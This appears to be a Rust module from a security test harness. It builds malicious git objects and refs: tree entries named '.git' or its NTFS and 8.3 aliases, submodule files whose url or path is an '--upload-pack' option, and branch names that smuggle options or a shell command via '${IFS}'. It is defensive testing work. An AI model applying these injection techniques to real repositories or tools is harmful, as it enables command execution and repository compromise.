//! Objects and names of refs that git itself would not make.

use crate::attack::{Attack, shows};

/// Names of files that lead elsewhere on some file system.
const NAMES: [(&str, &str); 8] = [
    (".git", ".git"),
    (".GIT", ".GIT"),
    ("..", ".."),
    (".", "."),
    ("git~1", "git~1"),
    ("a path", "a/b"),
    (".git with a mark that some file systems ignore", ".git\\u200c"),
    (".git with a stream", ".git::$INDEX_ALLOCATION"),
];

/// Files of submodules that were made into options of git.
const MODULES: [(&str, &str); 3] = [
    (
        "an address that is an option",
        "[submodule \"x\"]\\n\\tpath = x\\n\\turl = --upload-pack=touch\\n",
    ),
    (
        "a path that is an option",
        "[submodule \"x\"]\\n\\tpath = --upload-pack=touch\\n\\turl = ./x\\n",
    ),
    (
        "a name that leads out",
        "[submodule \"../../x\"]\\n\\tpath = x\\n\\turl = ./x\\n",
    ),
];

/// Whoever fetches the branch has the crafted commit.
const CARRIED: &str =
    "carry refs/heads/BRANCH; git -C OUT log -1 --format=%s refs/heads/carried | grep -q crafted-commit";

/// Commits a tree of these entries, which are Python for bytes; `blob` is an object that there is.
fn tree(entries: &str) -> String {
    format!(
        "blob=$(git hash-object -w honest.txt)
         python3 -c \"import sys; blob = bytes.fromhex('$blob'); sys.stdout.buffer.write({entries})\" > raw
         tree=$(git hash-object -t tree --literally -w raw); rm raw
         commit=$(git commit-tree $tree -p HEAD -m crafted-commit); git update-ref HEAD $commit"
    )
}

pub(crate) fn attacks() -> Vec<Attack> {
    let mut all: Vec<Attack> = NAMES
        .iter()
        .map(|(title, name)| {
            let entries = format!("b'100644 ' + '{}'.encode() + bytes(1) + blob", name.replace('$', "\\$"));
            shows(format!("a tree with {title}"), tree(&entries), CARRIED)
        })
        .collect();
    all.extend(MODULES.iter().map(|(title, text)| {
        let arm = format!(
            "printf '{text}' > .gitmodules; git add -f .gitmodules; git commit -qm crafted-commit; rm .gitmodules; git rm -q --cached .gitmodules"
        );
        shows(format!("submodules with {title}"), arm, CARRIED)
    }));
    let entry = "b'100644 a' + bytes(1) + blob";
    all.extend([
        shows(
            "a tree with a name twice",
            tree(&format!("{entry} + {entry}")),
            CARRIED,
        ),
        shows(
            "a tree out of order",
            tree(&format!("b'100644 b' + bytes(1) + blob + {entry}")),
            CARRIED,
        ),
        shows(
            "a file list of submodules that is a link",
            tree("b'120000 .gitmodules' + bytes(1) + blob"),
            CARRIED,
        ),
        shows(
            "a branch whose name is an option",
            "cp .git/refs/heads/BRANCH '.git/refs/heads/--output=sprung'",
            "git for-each-ref --format='%(refname:short)' refs/heads | while read -r name; do git log \"$name\" >&2; done
             [ -e sprung ]",
        ),
        shows(
            "a branch whose name is a command",
            "cp .git/refs/heads/BRANCH '.git/refs/heads/x;touch${IFS}sprung'",
            "git for-each-ref --format='%(refname:short)' refs/heads | while read -r name; do sh -c \"git log $name\" >&2; done
             [ -e sprung ]",
        ),
        shows(
            "a packed branch whose name is an option",
            "echo \"$(git rev-parse HEAD) refs/heads/--output=sprung\" >> .git/packed-refs",
            "git for-each-ref --format='%(refname:short)' refs/heads | while read -r name; do git log \"$name\" >&2; done
             [ -e sprung ]",
        ),
        shows(
            "a tag that is taken for the branch of origin",
            "git tag origin/main HEAD",
            "[ \"$(git rev-parse origin/main)\" = \"$(git rev-parse HEAD)\" ]",
        ),
    ]);
    all
}
